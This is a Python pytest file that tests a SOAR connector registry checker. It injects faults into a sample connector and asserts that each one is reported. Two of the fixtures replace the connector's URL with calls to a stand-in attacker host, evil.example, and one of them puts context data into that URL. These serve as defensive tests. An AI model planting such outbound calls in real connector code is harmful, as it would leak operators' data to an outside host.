from pathlib import Path

import pytest

from soar.registry.check import Finding, check_connectors
from soar.registry.discover import Found, discover
from soar.registry.docs import render_readme
from soar.registry.load import ReadYaml, load_connector
from soar.registry.quality import read_quality

SHIPPED = Path(__file__).parents[3] / "connectors"


@pytest.fixture
def whole(sample: Path, read_yaml: ReadYaml) -> Found:
    found = Found("sample", sample)
    text = render_readme(load_connector(found, read_yaml), read_quality(found, read_yaml))
    (sample / "README.md").write_text(text)
    return found


def test_the_connectors_that_are_shipped_have_no_findings(read_yaml: ReadYaml) -> None:
    found = discover([SHIPPED], [])
    assert [one.id for one in found] == [
        "abuseipdb",
        "alert",
        "chat",
        "cmdb",
        "core",
        "defender",
        "discord",
        "entra",
        "exchange",
        "greynoise",
        "http",
        "imap",
        "jira",
        "kafka",
        "list",
        "mail",
        "matrix",
        "mattermost",
        "mqtt",
        "nats",
        "nftables",
        "opensearch",
        "opnsense",
        "opsgenie",
        "page",
        "rabbitmq",
        "redis",
        "slack",
        "taxii",
        "teams",
        "virustotal",
        "whois",
    ]
    assert check_connectors(found, read_yaml) == []


def test_a_whole_connector_has_no_findings(whole: Found, read_yaml: ReadYaml) -> None:
    assert check_connectors([whole], read_yaml) == []


@pytest.mark.parametrize(
    "name", ["__init__.py", "manifest.yaml", "connector.py", "quality.yaml", "README.md", "test_sample.py"]
)
def test_each_file_is_missed(whole: Found, read_yaml: ReadYaml, name: str) -> None:
    (whole.folder / name).unlink()
    assert Finding("sample", name, "the file is missing") in check_connectors([whole], read_yaml)


@pytest.mark.parametrize(
    ("file", "old", "new", "where", "message"),
    [
        ("connector.py", "(URL, headers", '("https://evil.example/x", headers', "connector.py", "calls evil.example"),
        (
            "connector.py",
            "(URL, headers",
            '(f"https://evil.example/{ctx}", headers',
            "connector.py",
            "calls evil.example",
        ),
        ("connector.py", 'undo="drop"', 'undo="unmake"', "connector.py", "undo names unmake"),
        ("connector.py", "effect=Effect.READ, ", "", "connector.py", "effect"),
        ("connector.py", "from soar.sdk import", "from soar.store import", "connector.py", "imports soar.store"),
        (
            "connector.py",
            "from soar.sdk import",
            "import soar.vault\nfrom soar.sdk import",
            "connector.py",
            "soar.vault",
        ),
        ("connector.py", "class Thing", "class class", "connector.py", "line"),
        ("manifest.yaml", "title: Sample", "title: [", "manifest.yaml", ""),
        ("manifest.yaml", "title: Sample", "titel: Sample", "manifest.yaml", "title"),
        ("manifest.yaml", "title: Sample", "title: Simple", "README.md", "does not say what the connector does"),
        ("quality.yaml", "  typed: done\n", "", "quality.yaml", "says nothing of typed"),
        ("quality.yaml", "typed: done", "typed: later", "quality.yaml", "typed"),
        ("quality.yaml", "typed: done", "tidy: done", "quality.yaml", "tidy"),
        ("quality.yaml", "exempt: there is nothing to record", "exempt: no", "quality.yaml", "answers_recorded"),
    ],
)
def test_each_fault_is_found(
    whole: Found, read_yaml: ReadYaml, file: str, old: str, new: str, where: str, message: str
) -> None:
    text = (whole.folder / file).read_text()
    assert old in text
    (whole.folder / file).write_text(text.replace(old, new, 1))
    findings = check_connectors([whole], read_yaml)
    assert any(finding.file == where and message in finding.message for finding in findings), findings


def test_all_findings_come_at_once(whole: Found, read_yaml: ReadYaml) -> None:
    (whole.folder / "test_sample.py").unlink()
    (whole.folder / "quality.yaml").write_text("rules: {}\n")
    connector = whole.folder / "connector.py"
    connector.write_text(connector.read_text().replace('undo="drop"', 'undo="unmake"').replace('="name"', '="host"'))
    assert len(check_connectors([whole], read_yaml)) == 4


def test_a_docstring_may_name_any_page(whole: Found, read_yaml: ReadYaml) -> None:
    connector = whole.folder / "connector.py"
    connector.write_text('"""See https://docs.vendor.example/api."""\n' + connector.read_text())
    assert check_connectors([whole], read_yaml) == []
